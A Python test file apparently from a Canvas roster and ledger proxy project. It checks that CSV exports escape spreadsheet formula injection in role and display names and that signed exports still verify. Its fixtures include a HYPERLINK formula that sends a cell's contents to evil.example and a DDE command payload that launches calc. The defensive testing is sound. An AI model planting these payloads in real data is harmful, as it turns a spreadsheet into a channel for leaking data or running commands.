"""Issue 11 item 7: exports are safe to open in a spreadsheet, and still verify.

The attack: a custom role name or a user's display name in Canvas that a spreadsheet would run
as a formula (=, +, -, @, tab, CR) reaches the ledger export and `audit --format csv`.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import requests
from click.testing import CliRunner

from ledger_proxy.cli import main

from .test_verify import audit_script

NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+SUM(1+1)", "-2+3", "@cmd", "\tTab", "\rCR", "'quoted", "''=double"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def enroll_with_roles(world, sim, proxy):
    """One student per hostile role name, enrolled through the proxy."""
    for name, student in zip(NAMES, world.students, strict=True):
        role = sim.control("POST", "roles", {"name": name, "base_role_type": "StudentEnrollment"})
        answer = requests.post(
            f"{proxy.url}/i/roster-sync/api/v1/courses/{world.course['id']}/enrollments",
            data={"enrollment[user_id]": student["id"], "enrollment[role_id]": role["id"]},
            headers={"Authorization": f"Bearer {world.admin['token']}"}, timeout=10,
        )
        assert answer.status_code == 200 and answer.json()["role"] == name


def cli(*args):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def test_the_ledger_export_neutralises_formulas_and_still_verifies(world, sim, make_proxy, monkeypatch, tmp_path):
    proxy = make_proxy(sim.url, ADMIN_USER_IDS=[world.admin["id"]])
    enroll_with_roles(world, sim, proxy)
    headers = {"Authorization": f"Bearer {world.admin['token']}"}
    over_http = requests.get(f"{proxy.url}/ledger/v1/export?format=csv", headers=headers, timeout=10)
    assert over_http.status_code == 200

    rows = list(csv.reader(io.StringIO(over_http.content.decode(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    roles = [row[rows[0].index("role")] for row in rows[1:]]
    assert roles == ["'" + name for name in NAMES]  # each prefixed with exactly one quote
    for name in NAMES:  # and the field quoted
        assert ('"\'' + name.replace('"', '""') + '"').encode() in over_http.content

    # NDJSON stays raw.
    ndjson = requests.get(f"{proxy.url}/ledger/v1/export?format=ndjson", headers=headers, timeout=10)
    assert [json.loads(line)["role"] for line in ndjson.text.splitlines()] == NAMES

    # The command gives the same bytes, and both files verify (the hash covers the raw value).
    monkeypatch.setenv("LEDGER_PROXY_DATABASE", proxy.app.config["DATABASE"])
    monkeypatch.setenv("LEDGER_PROXY_TOKEN_HASH_KEY", "test-token-hash-key")
    target = tmp_path / "ledger.csv"
    assert cli("export", "-o", str(target)).exit_code == 0
    assert target.read_bytes() == over_http.content
    (tmp_path / "ledger.ndjson").write_bytes(ndjson.content)
    for path in (target, tmp_path / "ledger.ndjson"):
        verified = cli("verify", "--file", str(path))
        assert verified.exit_code == 0, verified.output
        assert f"{len(NAMES)} events" in verified.output

    # So does the stand-alone script docs/audit.md gives auditors.
    script = tmp_path / "verify_ledger_export.py"
    script.write_text(audit_script())
    done = subprocess.run([sys.executable, str(script), str(target)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and f"{len(NAMES)} events" in done.stdout, done.stdout + done.stderr

    # Undoing is exact: one quote comes off, never more, so a raw value that begins with a
    # quote keeps it, and a cell that lost one no longer verifies.
    assert b"\"''quoted\"" in over_http.content and b"\"'''=double\"" in over_http.content
    tampered = tmp_path / "tampered.csv"
    tampered.write_bytes(target.read_bytes().replace(b"\"''quoted\"", b"\"'quoted\""))
    broken = cli("verify", "--file", str(tampered))
    assert broken.exit_code != 0 and "edited" in broken.output


def test_audit_csv_neutralises_display_names_and_role_names(world, sim, make_proxy, monkeypatch):
    proxy = make_proxy(sim.url)
    hostile = sim.add_user("=cmd|' /C calc'!A0", sis_user_id="EVIL-1")
    role = sim.control("POST", "roles", {"name": "@SUM(A1:A9)", "base_role_type": "StudentEnrollment"})
    answer = requests.post(
        f"{proxy.url}/api/v1/courses/{world.course['id']}/enrollments",
        data={"enrollment[user_id]": hostile["id"], "enrollment[role_id]": role["id"]},
        headers={"Authorization": f"Bearer {world.admin['token']}"}, timeout=10,
    )
    assert answer.status_code == 200
    monkeypatch.setenv("LEDGER_PROXY_CANVAS_URL", sim.url)
    monkeypatch.setenv("LEDGER_PROXY_DATABASE", proxy.app.config["DATABASE"])
    monkeypatch.setenv("LEDGER_PROXY_TOKEN_HASH_KEY", "test-token-hash-key")
    result = CliRunner().invoke(main, ["audit", str(world.course["id"]), "--format", "csv", "--token", world.admin["token"]], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    [row] = [row for row in csv.DictReader(io.StringIO(result.stdout)) if row["id"] == str(answer.json()["id"])]
    assert (row["user_name"], row["role"]) == ("'=cmd|' /C calc'!A0", "'@SUM(A1:A9)")
    assert "\"'=cmd|' /C calc'!A0\"" in result.stdout  # quoted too
    assert not [cell for cell in row.values() if cell.startswith(DANGEROUS)]
